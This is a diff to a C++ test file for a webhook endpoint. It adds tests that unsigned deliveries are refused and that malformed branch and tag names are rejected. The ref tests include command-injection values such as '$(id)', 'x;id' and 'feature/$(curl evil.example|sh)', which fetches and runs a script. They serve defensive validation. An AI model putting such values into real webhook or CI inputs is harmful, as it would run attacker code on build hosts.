@@ -136,7 +136,7 @@ TEST_P(HookTest, AMalformedBodyIsABadRequest) {
   expect_nothing_queued(deliver("push", fixture("push_branch.json"), ""), 400, "invalid");  // no X-GitHub-Delivery
 }
 
-TEST_P(HookTest, AnUnknownRepositoryIsNotFound) {
+json unknown_repository_push() {
   json payload = fixture("push_branch.json");
   json& repository = payload["repository"];
   repository["full_name"] = "someone/else";
@@ -145,7 +145,47 @@ TEST_P(HookTest, AnUnknownRepositoryIsNotFound) {
   repository["html_url"] = "https://github.com/someone/else";
   repository["clone_url"] = "https://github.com/someone/else.git";
   repository["ssh_url"] = "git@github.com:someone/else.git";
-  expect_nothing_queued(deliver("push", payload), 404, "not_found");
+  return payload;
+}
+
+TEST_P(HookTest, ASignedDeliveryForAnUnknownRepositoryIsNotFound) {
+  expect_nothing_queued(deliver("push", unknown_repository_push()), 404, "not_found");
+}
+
+// Without a signature nothing tells a repository that has a project from one
+// that has none: both are refused alike, before any lookup.
+TEST_P(HookTest, AnUnsignedDeliveryIsUnauthorizedWhateverTheRepository) {
+  for (const json& payload : {fixture("push_branch.json"), unknown_repository_push()}) {
+    for (const char* signature : {"", "sha1=0123", "sha256=", "sha256=xyz", "sha256=0123456789abcdef"}) {
+      const Reply reply = deliver_signed("push", payload.dump(), signature);
+      expect_nothing_queued(reply, 401, "unauthorized");
+      EXPECT_EQ(json::parse(reply.body)["error"]["message"],
+                "X-Hub-Signature-256 is missing or not 'sha256=' and 64 hex digits");
+    }
+  }
+}
+
+// Branch and tag names go to git and may reach a `run` script through
+// ${event.branch}: a name git would refuse, or that a shell would act on,
+// makes the delivery a bad request, even correctly signed.
+TEST_P(HookTest, ARefThatIsNotAValidBranchOrTagNameIsABadRequest) {
+  for (const char* ref : {"refs/heads/a b", "refs/heads/\x1b[31mred", "refs/heads/$(id)", "refs/heads/`id`",
+                          "refs/heads/x;id", "refs/heads/a..b", "refs/heads/-rf", "refs/heads/x.lock",
+                          "refs/tags/v1:2", "refs/heads/a//b", "refs/heads/.hidden", "refs/heads/x@{1}"}) {
+    json payload = fixture("push_branch.json");
+    payload["ref"] = ref;
+    const Reply reply = deliver("push", payload);
+    expect_nothing_queued(reply, 400, "invalid");
+    EXPECT_TRUE(json::parse(reply.body)["error"]["message"].get<std::string>().starts_with("ref names '")) << reply.body;
+  }
+  for (const char* side : {"head", "base"}) {
+    json payload = fixture("pull_request_opened_fork.json");
+    payload["pull_request"][side]["ref"] = "feature/$(curl evil.example|sh)";
+    expect_nothing_queued(deliver("pull_request", payload), 400, "invalid");
+  }
+  json payload = fixture("push_branch.json");
+  payload["ref"] = "refs/heads/feature/JIRA-12_fix.v2+more#3";  // unusual but harmless
+  queued(deliver("push", payload));
 }
 
 TEST_P(HookTest, TheProjectIsFoundByAnyOfTheRepositoryUrlsOrByOwnerAndName) {
